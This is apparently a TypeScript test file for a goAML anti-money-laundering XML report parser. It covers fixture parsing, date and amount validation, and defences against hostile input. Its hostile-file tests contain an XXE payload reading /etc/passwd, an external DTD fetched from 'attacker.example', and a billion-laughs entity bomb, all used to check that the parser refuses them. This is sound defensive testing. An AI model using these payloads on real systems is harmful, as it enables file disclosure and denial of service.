import { createReadStream } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { GoamlFileError, GOAML_LIMITS, parseGoaml, type GoamlEvent } from './parse.js';

const fixture = (name: string) => new URL(`./fixtures/${name}`, import.meta.url);

async function* bytesOf(text: string, chunk = 7): AsyncGenerator<Uint8Array> {
  const all = new TextEncoder().encode(text);
  for (let i = 0; i < all.length; i += chunk) yield all.subarray(i, i + chunk);
}

async function collect(src: AsyncIterable<Uint8Array>, limits = GOAML_LIMITS): Promise<GoamlEvent[]> {
  const out: GoamlEvent[] = [];
  for await (const e of parseGoaml(src, limits)) out.push(e);
  return out;
}

const tx = (n: string, extra = '') =>
  `<transaction><transactionnumber>${n}</transactionnumber><date_transaction>2024-03-04T10:15:00</date_transaction><amount_local>10.50</amount_local>${extra}</transaction>`;
const report = (body: string, ref = 'R-1') =>
  `<report><rentity_id>7</rentity_id><submission_code>E</submission_code><report_code>STR</report_code><entity_reference>${ref}</entity_reference><currency_code_local>NGN</currency_code_local>${body}</report>`;

describe('parseGoaml: the fixtures', () => {
  it('reads the STR: header, 4 transactions with typed parties, exact amounts, WAT dates', async () => {
    const events = await collect(createReadStream(fixture('str-gtbank.xml'), { highWaterMark: 512 }));
    expect(events[0]).toEqual({
      type: 'report',
      report: 1,
      header: expect.objectContaining({ rentity_id: '101', report_code: 'STR', entity_reference: 'GTB-STR-2024-0042', submission_date: '2024-03-20', currency_code_local: 'NGN' }),
    });
    const txs = events.filter((e) => e.type === 'transaction');
    expect(txs.map((e) => e.transaction.transaction_number)).toEqual(['GTB-TX-000101', 'GTB-TX-000102', 'GTB-TX-000103', 'GTB-TX-000104']);
    const [first, second, third, fourth] = txs.map((e) => e.transaction);
    expect(first!.date_transaction).toBe('2024-03-04T09:15:00.000Z');
    expect(first!.amount_local).toBe('2500000.00');
    expect(first!.from).toMatchObject({
      my_client: true,
      account: {
        account: '0123456785', institution_code: '058', client_number: '22212345678',
        primary_person: { first_name: 'Chinedu', last_name: 'Okafor', ssn: '22212345678', phones: ['2348031234567'], birthdate: '1986-07-14' },
      },
    });
    expect(first!.to).toMatchObject({ my_client: false, account: { account: '2209876545', institution_name: 'Zenith Bank' } });
    expect(second!.amount_local).toBe('7850000.50');
    expect(second!.from?.account?.entity).toMatchObject({ name: 'Kano Agro Traders Ltd', incorporation_number: 'RC1234567', incorporation_country: 'NG' });
    expect(third!.from?.person).toMatchObject({ ssn: '22212345678' });
    expect(fourth!.description).toBe('NIP transfer to EMEKA NWOSU FIRST BANK REF: BUSINESS SUPPORT & LOGISTICS');
    expect(fourth!.to?.account?.primary_person?.phones).toEqual(['2348059876543']);
  });

  it('reads the CTR and refuses the transactions missing a date or an amount, with their position', async () => {
    const events = await collect(createReadStream(fixture('ctr-zenith.xml')));
    expect(events.filter((e) => e.type === 'transaction')).toHaveLength(3);
    const refused = events.filter((e) => e.type === 'refused');
    expect(refused).toEqual([
      { type: 'refused', at: { report: 1, ordinal: 4, line: 145 }, reason: 'date_transaction: missing', cells: ['ZEN-CSH-88004', '', '5100000.00'] },
      { type: 'refused', at: { report: 1, ordinal: 5, line: 152 }, reason: 'amount_local: missing', cells: ['ZEN-CSH-88005', '2024-03-19T09:00:00', ''] },
    ]);
    const first = events.find((e) => e.type === 'transaction');
    expect(first?.type === 'transaction' && first.transaction.from?.person?.phones).toEqual(['2348025550199']);
  });
});

describe('parseGoaml: hostile and broken files', () => {
  it('refuses a classic XXE payload without reading the file it names', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${report(tx('1', '<transaction_description>&xxe;</transaction_description>'))}`;
    await expect(collect(bytesOf(xxe))).rejects.toThrow('goAML report refused: the file declares a DTD (<!DOCTYPE>), which goAML reports never carry');
  });

  it('refuses an external DTD (parameter entity) payload', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd">${report(tx('1'))}`;
    await expect(collect(bytesOf(xxe))).rejects.toThrow(/declares a DTD/);
  });

  it('refuses a billion-laughs payload at once', async () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1 || ''};`.repeat(10)}">`);
    const bomb = `<?xml version="1.0"?><!DOCTYPE report [${lol.join('')}]>${report(tx('1', '<transaction_description>&lol9;</transaction_description>'))}`;
    await expect(collect(bytesOf(bomb, 64))).rejects.toThrow(GoamlFileError);
  });

  it('treats an undeclared entity as malformed XML, never as text', async () => {
    await expect(collect(bytesOf(report(tx('1', '<transaction_description>&lol9;</transaction_description>'))))).rejects.toThrow(/goAML report refused: the XML is malformed/);
  });

  it('bounds depth, text size, elements per transaction and file size', async () => {
    const deep = report(tx('1', '<x>'.repeat(50) + '</x>'.repeat(50)));
    await expect(collect(bytesOf(deep, 100))).rejects.toThrow('goAML report refused: elements are nested deeper than 32 levels');
    const long = report(tx('1', `<transaction_description>${'a'.repeat(70_000)}</transaction_description>`));
    await expect(collect(bytesOf(long, 4096))).rejects.toThrow(/<transaction_description> on line 1 holds more than 65536 characters/);
    const wide = report(tx('1', '<goods_services>' + '<item/>'.repeat(200) + '</goods_services>'));
    await expect(collect(bytesOf(wide, 4096), { ...GOAML_LIMITS, maxNodesPerItem: 100 })).rejects.toThrow(/<transaction> on line 1 has more than 100 elements/);
    await expect(collect(bytesOf(report(tx('1')), 10), { ...GOAML_LIMITS, maxFileBytes: 100 })).rejects.toThrow(/larger than/);
  });

  it('refuses what is not a goAML report', async () => {
    await expect(collect(bytesOf('<html><body/></html>'))).rejects.toThrow('goAML report refused: the root element is <html>, not a goAML <report>');
    await expect(collect(bytesOf('<report><rentity_id>1</rentity_id>'))).rejects.toThrow(/malformed/);
    await expect(collect(bytesOf('<reports></reports>'))).rejects.toThrow('goAML report refused: the file holds no goAML <report>');
    await expect(collect(bytesOf('<report><report_code>STR</report_code></report>'))).rejects.toThrow('goAML report refused: report 1: the report has no rentity_id');
    await expect(collect(bytesOf('<?xml version="1.0" encoding="EBCDIC-XYZ"?><report/>'))).rejects.toThrow(/encoding 'ebcdic-xyz' is not supported/);
  });
});

describe('parseGoaml: variants the schema allows', () => {
  it('reads several reports under <reports>, prefixed names, CDATA, ISO-8859-1 text', async () => {
    const xml = `<g:reports xmlns:g="http://www.unodc.org/goaml">${report(tx('1'), 'A')}${report(tx('1', '<transaction_description><![CDATA[Café & co]]></transaction_description>'), 'B')}</g:reports>`;
    const events = await collect(bytesOf(xml));
    expect(events.map((e) => e.type)).toEqual(['report', 'transaction', 'report', 'transaction']);
    const last = events[3]!;
    expect(last.type === 'transaction' && last.transaction.description).toBe('Café & co');
    const latin = Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${report(tx('1', '<transaction_description>Caf\u00e9</transaction_description>'))}`, 'latin1');
    const ev = await collect((async function* () { yield latin; })());
    expect(ev[1]?.type === 'transaction' && ev[1].transaction.description).toBe('Café');
  });

  it('refuses impossible dates, negative or malformed amounts, reads dates with a zone as given', async () => {
    const xml = report(
      [
        '<transaction><transactionnumber>a</transactionnumber><date_transaction>2024-02-31T10:00:00</date_transaction><amount_local>1</amount_local></transaction>',
        '<transaction><transactionnumber>b</transactionnumber><date_transaction>2024-02-03T10:00:00Z</date_transaction><amount_local>-5</amount_local></transaction>',
        '<transaction><transactionnumber>c</transactionnumber><date_transaction>2024-02-03T10:00:00Z</date_transaction><amount_local>1,000.00</amount_local></transaction>',
        '<transaction><transactionnumber>d</transactionnumber><date_transaction>2024-02-03T10:00:00Z</date_transaction><amount_local>1000</amount_local></transaction>',
      ].join(''),
    );
    const events = await collect(bytesOf(xml));
    expect(events.filter((e) => e.type === 'refused').map((e) => e.type === 'refused' && e.reason)).toEqual([
      "date_transaction: not a date ('2024-02-31T10:00:00')",
      "amount_local: not an amount ('-5')",
      "amount_local: not an amount ('1,000.00')",
    ]);
    const ok = events.find((e) => e.type === 'transaction');
    expect(ok?.type === 'transaction' && ok.transaction.date_transaction).toBe('2024-02-03T10:00:00.000Z');
  });
});
